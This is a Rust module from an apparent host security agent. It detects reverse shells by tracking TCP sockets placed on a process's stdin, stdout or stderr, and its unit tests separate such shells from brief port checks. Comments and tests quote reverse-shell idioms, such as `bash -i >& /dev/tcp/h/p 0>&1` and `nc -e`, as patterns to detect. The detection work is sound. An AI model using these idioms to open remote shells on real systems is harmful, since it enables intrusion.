//! `reverse_shell`: a process whose standard streams are driven by a TCP socket to an
//! untrusted, non-loopback peer — what bash `/dev/tcp`, python/perl `socket` + `dup2`,
//! `nc -e` and php one-liners all do before they run commands, whatever the program is
//! called. Critical, T1059. The peer is the target: the dead man's switch opens a decision
//! that blocks it, and `enforce.kill` terminates the process. Found from the kernel's
//! `stdio` sensor (a TCP or MPTCP socket duplicated onto fd 0, 1 or 2, or found there at exec
//! however it got there). The same socket seen again (the exec after the `dup2`s) is the same
//! shell, never a second finding. Trust comes first: loopback,
//! `trust.ips` and live SSH peers never raise it.
//!
//! One redirect is not a shell: the admin's port check (`bash -c '</dev/tcp/host/443'`) and a
//! bash port scan (`echo > /dev/tcp/host/$port`) put one standard stream on a socket for an
//! instant and close it. So a socket on *two* standard streams is a reverse shell at once;
//! a socket on one stream is a [`Candidate`] that becomes one when the process execs a
//! program with it still there, or still holds it [`HOLD`] later. The event loop does the
//! looking (`/proc/PID/fd`); this module keeps the candidates and words the findings.

use rustc_hash::FxHashMap;
use std::{
    net::IpAddr,
    time::{Duration, Instant},
};

use crate::enrich::trust::TrustSet;

use super::{Anomaly, Culprit, Finding};

/// How long a socket must stay on a single standard stream to be a shell's.
pub const HOLD: Duration = Duration::from_secs(1);

/// At most this many candidates wait; past it a new one is judged at once (a flood of port
/// checks costs the flooder alerts, never a missed shell).
const MAX_CANDIDATES: usize = 4096;

/// fd 0, 1, 2 by name.
fn stream_name(fd: u32) -> &'static str {
    match fd {
        0 => "stdin",
        1 => "stdout",
        _ => "stderr",
    }
}

/// Whether streams `fds` (bits, 1 << fd) are the shape of a shell driven from the socket:
/// stdin together with stdout or stderr. stdout and stderr alone are a redirect (`echo hi
/// 2>/dev/tcp/h/p >&2`), judged like one stream.
fn driven(fds: u8) -> bool {
    fds & 0b001 != 0 && fds & 0b110 != 0
}

/// `its stdin and stdout`, `its stdin, stdout and stderr`.
fn streams(fds: u8) -> String {
    let names: Vec<&str> = (0..3)
        .filter(|fd| fds & (1 << fd) != 0)
        .map(stream_name)
        .collect();
    match names.as_slice() {
        [] => "its standard streams".into(),
        [one] => format!("its {one}"),
        [init @ .., last] => format!("its {} and {last}", init.join(", ")),
    }
}

/// A socket seen on one standard stream, not judged yet.
#[derive(Debug)]
struct Candidate {
    finding: Finding,
    peer: IpAddr,
    dport: u16,
    /// The standard stream it was first seen on (the one looked at).
    fd: u32,
    /// Every standard stream seen on the socket, as bits (1 << fd).
    fds: u8,
    /// What `/proc/PID/fd/<fd>` pointed at when the record was handled (`socket:[inode]`);
    /// None when it could not be looked at.
    held: Option<String>,
    /// The stream no longer held the socket when the record was handled.
    let_go: bool,
    since: Instant,
}

/// What a standard stream of a process points at, as far as the agent can see.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Stream {
    /// `/proc/PID/fd/N`'s link: `socket:[inode]`, a path, `pipe:[…]`.
    Link(String),
    /// No such descriptor (closed), or no such process (ended).
    Gone,
    /// It could not be looked at (another user's process without the capability to search
    /// its descriptors).
    Hidden,
}

impl Stream {
    /// Whether the socket seen as `held` (None: it could not be looked at then) is still on
    /// the stream. What cannot be looked at counts as still there: a shell is never missed
    /// for want of a capability, it is only no longer told from a port check.
    fn still_holds(&self, held: Option<&str>) -> bool {
        match self {
            Stream::Link(now) => held.map_or(now.starts_with("socket:"), |h| h == now),
            Stream::Gone => false,
            Stream::Hidden => true,
        }
    }
}

/// What one socket-on-stdio record comes to.
#[derive(Debug)]
pub enum Verdict {
    /// A reverse shell: raise it.
    Shell(Box<Finding>),
    /// One stream: wait and see ([`ReverseShell::due`]).
    Wait,
    /// Trusted, closed already, or not a standard stream.
    Nothing,
}

/// The candidates by process.
#[derive(Debug, Default)]
pub struct ReverseShell {
    candidates: FxHashMap<u32, Candidate>,
    /// Processes found to be reverse shells, with their peer: the same socket seen again (the
    /// exec that follows a `dup2`, the commands the shell runs) is the same shell, not a
    /// second finding.
    shells: FxHashMap<u32, (IpAddr, u16)>,
}

impl ReverseShell {
    /// `culprit` put a TCP socket connected to `peer:dport` on standard stream `newfd`;
    /// `now` is what that stream points at as the record is handled.
    #[expect(clippy::too_many_arguments, reason = "one record's fields, named")]
    pub fn on_stdio(
        &mut self,
        culprit: &Culprit,
        newfd: u32,
        peer: IpAddr,
        dport: u16,
        country: Option<&str>,
        trust: &TrustSet,
        seen: Stream,
        now: Instant,
    ) -> Verdict {
        if newfd > 2 || peer.is_unspecified() {
            return Verdict::Nothing;
        }
        // Trust first: loopback, trust.ips and SSH peers have no ActionableAddr, so no finding.
        let Ok(target) = trust.check(peer) else {
            return Verdict::Nothing;
        };
        let pid = culprit.pid;
        // The shell itself again, or a program it runs: they inherit its socket (a shell's
        // every command has it on stdio); the shell's alert and tracked tree cover them.
        let same = Some(&(peer, dport));
        if std::iter::once(pid)
            .chain(culprit.ancestry.iter().map(|(p, _)| *p))
            .any(|p| self.shells.get(&p) == same)
        {
            return Verdict::Nothing;
        }
        if let Some(c) = self.candidates.get_mut(&pid)
            && c.peer == peer
            && c.dport == dport
        {
            c.fds |= 1 << newfd;
            if !driven(c.fds) {
                return Verdict::Wait;
            }
            let c = self.candidates.remove(&pid).expect("just seen");
            self.found(pid, peer, dport);
            return Verdict::Shell(Box::new(Self::word(c.finding, dport, &streams(c.fds), "")));
        }
        let finding = Finding {
            domain: None,
            anomaly: Anomaly::ReverseShell,
            culprit: culprit.clone(),
            target: Some(target),
            country: country.map(str::to_string),
            detail: String::new(),
            subject: pid,
        };
        // Closed before the agent looked (a port check), or the process already ended (a shell
        // the C2 told to exit): remembered all the same, so a second stream on the same
        // socket still makes it a shell, but never one on its own.
        let (held, let_go) = match seen {
            Stream::Link(link) if link.starts_with("socket:") => (Some(link), false),
            Stream::Hidden => (None, false),
            Stream::Link(_) | Stream::Gone => (None, true),
        };
        let full = self.candidates.len() >= MAX_CANDIDATES && !self.candidates.contains_key(&pid);
        if full && let_go {
            return Verdict::Nothing;
        }
        if full {
            self.found(pid, peer, dport);
            return Verdict::Shell(Box::new(Self::word(
                finding,
                dport,
                &format!("its {}", stream_name(newfd)),
                " (judged at once: too many sockets on stdio at the same time)",
            )));
        }
        self.candidates.insert(
            pid,
            Candidate {
                finding,
                peer,
                dport,
                fd: newfd,
                fds: 1 << newfd,
                held,
                let_go,
                since: now,
            },
        );
        Verdict::Wait
    }

    /// Whether `pid` waits to be judged.
    pub fn waits(&self, pid: u32) -> bool {
        self.candidates.contains_key(&pid)
    }

    /// The candidates whose [`HOLD`] has passed: (pid, the stream to look at).
    pub fn due(&self, now: Instant) -> Vec<(u32, u32)> {
        self.candidates
            .iter()
            .filter(|(_, c)| now.saturating_duration_since(c.since) >= HOLD)
            .map(|(pid, c)| (*pid, c.fd))
            .collect()
    }

    /// The stream `pid` waits on.
    pub fn stream_of(&self, pid: u32) -> Option<u32> {
        self.candidates.get(&pid).map(|c| c.fd)
    }

    /// `pid`'s hold is over and its stream points at `now`: a reverse shell (the finding) when
    /// the socket is still there, else a check (forgotten).
    pub fn judge_hold(&mut self, pid: u32, now: &Stream) -> Option<Finding> {
        let c = self.candidates.get(&pid)?;
        if !c.let_go && now.still_holds(c.held.as_deref()) {
            self.confirm(pid, &format!(", held for {} s", HOLD.as_secs()))
        } else {
            self.dismiss(pid);
            None
        }
    }

    /// `pid` exec'd `filename` while its stream points at `now`: a reverse shell unless the
    /// stream was let go before (a process that ran and ended exec'd with it all the same).
    pub fn judge_exec(&mut self, pid: u32, filename: &str, now: &Stream) -> Option<Finding> {
        let c = self.candidates.get(&pid)?;
        let undone = matches!(now, Stream::Link(_)) && !now.still_holds(c.held.as_deref());
        if undone || (c.let_go && !matches!(now, Stream::Gone)) {
            self.dismiss(pid);
            return None;
        }
        self.confirm(pid, &format!(", and exec'd {filename} with it there"))
    }

    /// `pid`'s socket is still on its stream and `why` says how it drives the process: the
    /// reverse shell.
    pub fn confirm(&mut self, pid: u32, why: &str) -> Option<Finding> {
        let c = self.candidates.remove(&pid)?;
        self.found(pid, c.peer, c.dport);
        Some(Self::word(c.finding, c.dport, &streams(c.fds), why))
    }

    /// `pid` is a reverse shell to `peer:dport` (remembered, bounded like the candidates).
    fn found(&mut self, pid: u32, peer: IpAddr, dport: u16) {
        if self.shells.len() >= MAX_CANDIDATES {
            self.shells.clear();
        }
        self.shells.insert(pid, (peer, dport));
    }

    /// `pid` let go of the socket: it was a check, not a shell.
    pub fn dismiss(&mut self, pid: u32) {
        self.candidates.remove(&pid);
    }

    /// `pid` ended: nothing of it is kept.
    pub fn forget(&mut self, pid: u32) {
        self.candidates.remove(&pid);
        self.shells.remove(&pid);
    }

    fn word(mut f: Finding, dport: u16, streams: &str, why: &str) -> Finding {
        let target = f.target.expect("candidates have a target");
        let (comm, pid) = (&f.culprit.comm, f.culprit.pid);
        f.detail = format!(
            "{comm} (pid {pid}) has {streams} on a TCP connection to {target} port {dport}{why}"
        );
        f
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::tests::culprit;

    const PEER: &str = "198.51.100.130";

    fn sock() -> Stream {
        Stream::Link("socket:[4242]".into())
    }

    fn stdio(rs: &mut ReverseShell, c: &Culprit, fd: u32, seen: Stream, at: Instant) -> Verdict {
        let peer: IpAddr = PEER.parse().unwrap();
        rs.on_stdio(
            c,
            fd,
            peer,
            4444,
            Some("DE"),
            &TrustSet::default(),
            seen,
            at,
        )
    }

    #[test]
    fn a_socket_on_two_streams_is_a_reverse_shell_at_once() {
        let mut rs = ReverseShell::default();
        let c = culprit(7, "python3", &[(1, "bash")]);
        let t0 = Instant::now();
        assert!(matches!(stdio(&mut rs, &c, 0, sock(), t0), Verdict::Wait));
        let Verdict::Shell(f) = stdio(&mut rs, &c, 1, sock(), t0) else {
            panic!("stdin and stdout on the socket is a shell");
        };
        assert_eq!(f.anomaly, Anomaly::ReverseShell);
        assert_eq!(f.target.unwrap().ip(), PEER.parse::<IpAddr>().unwrap());
        assert_eq!(f.subject, 7);
        assert!(f.detail.contains("its stdin and stdout"), "{}", f.detail);
        assert!(
            f.detail.contains("198.51.100.130 port 4444"),
            "{}",
            f.detail
        );
        assert!(!rs.waits(7));
    }

    #[test]
    fn one_stream_held_is_a_shell_and_one_let_go_is_a_check() {
        let mut rs = ReverseShell::default();
        let t0 = Instant::now();
        // `cat <&5` of the cheat sheets: stdin only, held.
        let cat = culprit(8, "cat", &[]);
        assert!(matches!(stdio(&mut rs, &cat, 0, sock(), t0), Verdict::Wait));
        // `echo > /dev/tcp/host/port`: stdout, already closed when the agent looked; and a
        // scan loop that has the next port's socket there when the hold ends.
        let check = culprit(9, "bash", &[]);
        let closed = Stream::Link("/dev/pts/0".into());
        assert!(matches!(
            stdio(&mut rs, &check, 1, closed, t0),
            Verdict::Wait
        ));
        assert!(rs.judge_hold(9, &sock()).is_none());
        assert!(!rs.waits(9));
        assert!(rs.due(t0 + HOLD / 2).is_empty());
        assert_eq!(rs.due(t0 + HOLD), vec![(8, 0)]);
        let f = rs.judge_hold(8, &sock()).unwrap();
        assert!(
            f.detail.contains("its stdin on a TCP connection"),
            "{}",
            f.detail
        );
        assert!(f.detail.ends_with("held for 1 s"), "{}", f.detail);
        assert!(rs.judge_hold(8, &sock()).is_none(), "judged once");
        // A check still open when looked at, let go before the hold ends, or whose stream now
        // holds another socket.
        let slow = culprit(10, "bash", &[]);
        assert!(matches!(
            stdio(&mut rs, &slow, 0, sock(), t0),
            Verdict::Wait
        ));
        assert!(
            rs.judge_hold(10, &Stream::Link("/dev/null".into()))
                .is_none()
        );
        assert!(matches!(
            stdio(&mut rs, &slow, 0, sock(), t0),
            Verdict::Wait
        ));
        assert!(
            rs.judge_hold(10, &Stream::Link("socket:[7]".into()))
                .is_none()
        );
        assert!(rs.due(t0 + HOLD).is_empty());
    }

    #[test]
    fn stdout_with_stderr_is_a_redirect_stdin_with_either_is_a_shell() {
        let mut rs = ReverseShell::default();
        let t0 = Instant::now();
        let c = culprit(16, "bash", &[]);
        assert!(matches!(
            stdio(&mut rs, &c, 2, Stream::Gone, t0),
            Verdict::Wait
        ));
        assert!(matches!(
            stdio(&mut rs, &c, 1, Stream::Gone, t0),
            Verdict::Wait
        ));
        assert!(rs.judge_hold(16, &Stream::Gone).is_none());
        // `bash -i >& /dev/tcp/h/p 0>&1`: stdout, stderr, then stdin.
        let b = culprit(17, "bash", &[]);
        assert!(matches!(stdio(&mut rs, &b, 1, sock(), t0), Verdict::Wait));
        assert!(matches!(stdio(&mut rs, &b, 2, sock(), t0), Verdict::Wait));
        let Verdict::Shell(f) = stdio(&mut rs, &b, 0, sock(), t0) else {
            panic!("stdin with stdout is a shell");
        };
        assert!(
            f.detail.contains("its stdin, stdout and stderr"),
            "{}",
            f.detail
        );
        // `$line 2>&5 >&5` of the cheat sheets: stdout and stderr, then the command's exec.
        let l = culprit(18, "bash", &[]);
        assert!(matches!(stdio(&mut rs, &l, 2, sock(), t0), Verdict::Wait));
        assert!(matches!(stdio(&mut rs, &l, 1, sock(), t0), Verdict::Wait));
        assert!(rs.judge_exec(18, "/usr/bin/id", &sock()).is_some());
    }

    #[test]
    fn a_shell_that_ended_before_the_agent_looked_is_still_caught_by_its_second_stream() {
        let mut rs = ReverseShell::default();
        let t0 = Instant::now();
        // The C2 said `exit`: the python one-liner is gone when its records are handled.
        let c = culprit(14, "python3", &[]);
        assert!(matches!(
            stdio(&mut rs, &c, 0, Stream::Gone, t0),
            Verdict::Wait
        ));
        assert!(matches!(
            stdio(&mut rs, &c, 1, Stream::Gone, t0),
            Verdict::Shell(_)
        ));
        // One stream only, gone: a check.
        let one = culprit(15, "bash", &[]);
        assert!(matches!(
            stdio(&mut rs, &one, 0, Stream::Gone, t0),
            Verdict::Wait
        ));
        assert!(rs.judge_hold(15, &Stream::Gone).is_none());
    }

    #[test]
    fn what_cannot_be_looked_at_is_judged_a_shell_never_a_check() {
        let mut rs = ReverseShell::default();
        let t0 = Instant::now();
        let c = culprit(12, "python3", &[]);
        assert!(matches!(
            stdio(&mut rs, &c, 0, Stream::Hidden, t0),
            Verdict::Wait
        ));
        assert!(rs.judge_hold(12, &Stream::Hidden).is_some());
        // Two streams need no look at all (another process with that pid).
        rs.forget(12);
        assert!(matches!(
            stdio(&mut rs, &c, 0, Stream::Hidden, t0),
            Verdict::Wait
        ));
        assert!(matches!(
            stdio(&mut rs, &c, 1, Stream::Hidden, t0),
            Verdict::Shell(_)
        ));
    }

    #[test]
    fn an_exec_with_the_socket_there_is_a_shell_one_after_letting_go_is_not() {
        let mut rs = ReverseShell::default();
        let t0 = Instant::now();
        let c = culprit(13, "bash", &[]);
        assert!(matches!(stdio(&mut rs, &c, 0, sock(), t0), Verdict::Wait));
        let f = rs.judge_exec(13, "/usr/bin/cat", &sock()).unwrap();
        assert!(f.detail.contains("exec'd /usr/bin/cat"), "{}", f.detail);
        // Ran and ended already: it exec'd with the socket all the same.
        rs.forget(13);
        assert!(matches!(stdio(&mut rs, &c, 0, sock(), t0), Verdict::Wait));
        assert!(rs.judge_exec(13, "/usr/bin/cat", &Stream::Gone).is_some());
        // `</dev/tcp/h/p && exec foo`: the redirect was undone before the exec.
        rs.forget(13);
        assert!(matches!(stdio(&mut rs, &c, 0, sock(), t0), Verdict::Wait));
        let undone = Stream::Link("/dev/pts/1".into());
        assert!(rs.judge_exec(13, "/usr/bin/foo", &undone).is_none());
    }

    #[test]
    fn the_exec_after_a_dup2_shell_is_the_same_shell_not_a_second() {
        let mut rs = ReverseShell::default();
        let t0 = Instant::now();
        let c = culprit(14, "python3", &[]);
        assert!(matches!(stdio(&mut rs, &c, 0, sock(), t0), Verdict::Wait));
        assert!(matches!(
            stdio(&mut rs, &c, 1, sock(), t0),
            Verdict::Shell(_)
        ));
        // The kernel finds the same socket on stdin and stdout as it execs sh.
        assert!(matches!(
            stdio(&mut rs, &c, 0, Stream::Hidden, t0),
            Verdict::Nothing
        ));
        assert!(matches!(
            stdio(&mut rs, &c, 1, Stream::Hidden, t0),
            Verdict::Nothing
        ));
        // The commands it runs inherit the socket: the same shell, not new ones.
        let child = culprit(15, "id", &[(14, "python3")]);
        assert!(matches!(
            stdio(&mut rs, &child, 0, Stream::Hidden, t0),
            Verdict::Nothing
        ));
        // Once it ended, the pid is anyone's.
        rs.forget(14);
        assert!(matches!(stdio(&mut rs, &c, 0, sock(), t0), Verdict::Wait));
    }

    #[test]
    fn a_scan_of_many_ports_keeps_one_candidate_per_process() {
        let mut rs = ReverseShell::default();
        let c = culprit(11, "bash", &[]);
        let t0 = Instant::now();
        for port in 1..500u16 {
            let peer: IpAddr = PEER.parse().unwrap();
            let v = rs.on_stdio(&c, 1, peer, port, None, &TrustSet::default(), sock(), t0);
            assert!(matches!(v, Verdict::Wait), "port {port}");
        }
        assert_eq!(rs.due(t0 + HOLD).len(), 1);
    }

    #[test]
    fn a_flood_of_candidates_is_judged_at_once_never_dropped() {
        let mut rs = ReverseShell::default();
        let t0 = Instant::now();
        for pid in 0..MAX_CANDIDATES as u32 {
            let c = culprit(100 + pid, "bash", &[]);
            assert!(matches!(stdio(&mut rs, &c, 0, sock(), t0), Verdict::Wait));
        }
        let last = culprit(1, "sh", &[]);
        let Verdict::Shell(f) = stdio(&mut rs, &last, 0, sock(), t0) else {
            panic!("past the bound a candidate is judged at once");
        };
        assert!(f.detail.contains("judged at once"), "{}", f.detail);
    }

    #[test]
    fn loopback_trusted_and_odd_input_raise_nothing() {
        let mut rs = ReverseShell::default();
        let c = culprit(7, "bash", &[]);
        let open = TrustSet::default();
        let now = Instant::now();
        for peer in ["127.0.0.1", "::1", "0.0.0.0"] {
            let peer: IpAddr = peer.parse().unwrap();
            for fd in [0, 1] {
                let v = rs.on_stdio(&c, fd, peer, 80, None, &open, sock(), now);
                assert!(matches!(v, Verdict::Nothing));
            }
        }
        let peer: IpAddr = PEER.parse().unwrap();
        let trusted = TrustSet::new(&["198.51.100.128/26".parse().unwrap()], &[]);
        for fd in [0, 1, 2] {
            let v = rs.on_stdio(&c, fd, peer, 80, None, &trusted, sock(), now);
            assert!(matches!(v, Verdict::Nothing));
        }
        let v = rs.on_stdio(&c, 5, peer, 80, None, &open, sock(), now);
        assert!(matches!(v, Verdict::Nothing));
        assert!(!rs.waits(7));
    }
}
